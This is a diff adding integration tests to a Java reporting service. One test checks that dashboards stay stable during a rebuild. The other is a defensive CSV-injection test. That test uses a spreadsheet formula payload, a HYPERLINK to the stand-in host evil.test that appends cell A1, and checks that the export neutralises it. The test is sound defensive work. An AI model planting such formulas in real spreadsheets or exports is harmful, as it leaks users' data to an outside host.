@@ -16,12 +16,19 @@ import org.junit.jupiter.api.BeforeAll;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.TestInstance;
 import org.maillage.contracts.api.ContractsTopics;
+import org.maillage.contracts.api.OpportunityEventTypes;
+import org.maillage.contracts.api.OpportunityState;
 import org.maillage.directory.api.DirectoryTopics;
 import org.maillage.testkit.ServiceUnderTest;
 import org.maillage.testkit.TestEvents;
 import org.maillage.testkit.TestTokens;
 
+import io.micronaut.http.client.exceptions.HttpClientResponseException;
+
 import java.io.StringReader;
+import java.sql.Connection;
+import java.util.concurrent.CompletableFuture;
+import java.util.concurrent.TimeUnit;
 import java.math.BigDecimal;
 import java.nio.charset.StandardCharsets;
 import java.time.Duration;
@@ -114,6 +121,46 @@ class PilotStatisticsIT implements TestPropertyProvider {
         assertThat(dashboard("?from=2014-01&to=2015-12")).isEqualTo(live);
     }
 
+    /**
+     * The first rebuild is held just before it empties its last table (the test keeps a SHARE lock on it), so
+     * every other table has already been emptied in its transaction: readers must still get the old numbers at
+     * once, and a second rebuild must be refused rather than queue behind it.
+     */
+    @Test
+    void whileARebuildRunsReadersKeepTheOldNumbersAndASecondRebuildGets409() throws Exception {
+        Map<String, Object> before = dashboard("?from=2014-01&to=2015-12");
+        String coordinator = tokens.token("COORDINATOR", null, List.of(pilot.pilot));
+        CompletableFuture<Map<String, Object>> first;
+        try (Connection hold = service.database().connect()) {
+            hold.setAutoCommit(false);
+            hold.createStatement().execute("lock table cell_unit in share mode");
+            first = CompletableFuture.supplyAsync(() -> http.toBlocking().retrieve(
+                    HttpRequest.POST("/api/reports/rebuild", "").bearerAuth(coordinator), JSON));
+            await().atMost(Duration.ofSeconds(60)).until(this::rebuildWaitsOnTheLastTable);
+
+            Map<String, Object> during = CompletableFuture.supplyAsync(() -> dashboard("?from=2014-01&to=2015-12"))
+                    .get(5, TimeUnit.SECONDS);
+            assertThat(during).isEqualTo(before);
+            HttpClientResponseException second = assertThrows(HttpClientResponseException.class, () -> http.toBlocking().retrieve(
+                    HttpRequest.POST("/api/reports/rebuild", "").bearerAuth(coordinator), JSON));
+            assertThat(second.getStatus().getCode()).isEqualTo(409);
+            assertThat(second.getResponse().getContentType().orElseThrow().toString()).startsWith("application/problem+json");
+            assertThat(second.getResponse().getBody(String.class).orElseThrow()).contains("\"field\":\"rebuild\"");
+            hold.rollback();
+        }
+        assertThat(((Number) first.get(60, TimeUnit.SECONDS).get("events")).longValue()).isPositive();
+        assertThat(dashboard("?from=2014-01&to=2015-12")).isEqualTo(before);
+    }
+
+    /** Asked on a connection of its own: a transaction sees one snapshot of pg_stat_activity. */
+    private boolean rebuildWaitsOnTheLastTable() throws Exception {
+        try (var c = service.database().connect(); var rs = c.createStatement().executeQuery("""
+                select count(*) from pg_stat_activity where wait_event_type = 'Lock' and query like 'delete from cell_unit%'""")) {
+            rs.next();
+            return rs.getInt(1) == 1;
+        }
+    }
+
     @Test
     void theCsvTablesSayWhatTheDashboardSaysWithAccentsSafe() throws Exception {
         Map<String, Object> d = dashboard("?from=2014-01&to=2015-12");
@@ -142,6 +189,28 @@ class PilotStatisticsIT implements TestPropertyProvider {
                 + "/csv/enterprises").bearerAuth(coordinator), byte[].class), StandardCharsets.UTF_8);
         long pilotEnterprises = pilot.orgs.values().stream().filter(o -> o.kind().equals("ENTERPRISE") && o.pilots().contains(pilot.pilot)).count();
         assertThat(enterprises.split("\r\n")).hasSize((int) pilotEnterprises + 1);
+    }
+
+    /** OWASP CSV injection: a title typed by a buyer must not run as a formula in the coordinator's spreadsheet. */
+    @Test
+    void aTitleThatLooksLikeAFormulaComesOutOfTheCsvAsText() throws Exception {
+        UUID buyer = pilot.pilotInstitutions().get(0).id();
+        UUID opportunity = UUID.randomUUID();
+        String title = "=HYPERLINK(\"http://evil.test/?\"&A1,\"Voir\")";
+        OpportunityState state = new OpportunityState(opportunity, buyer, "INSTITUTION", null, title, "-2+3", "OPEN", List.of("90100000"),
+                List.of("06"), List.of(), null, java.time.Instant.parse("2030-07-01T16:00:00Z"), "PUBLISHED", null, 0,
+                java.time.Instant.parse("2030-06-01T12:00:00Z"));
+        TestEvents.send(service.kafkaBootstrapServers(), service.topicPrefix() + ContractsTopics.OPPORTUNITIES, opportunity.toString(),
+                OpportunityEventTypes.PUBLISHED_V1, json.writeValueAsString(state));
+        String coordinator = tokens.token("COORDINATOR", null, List.of(pilot.pilot));
+        HttpRequest<?> csv = HttpRequest.GET("/api/reports/pilots/" + pilot.pilot + "/csv/opportunities?from=2030-01&to=2030-12")
+                .bearerAuth(coordinator);
+        await().atMost(Duration.ofSeconds(30)).until(() -> http.toBlocking().retrieve(csv, String.class).contains(opportunity.toString()));
+
+        CSVRecord row = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
+                .parse(new StringReader(http.toBlocking().retrieve(csv, String.class).substring(1))).getRecords().get(0);
+        assertThat(row.get("titre / title")).isEqualTo("'" + title);
+        assertThat(row.get("jumelees / matched")).isEqualTo("0");
     }
 
     @Test
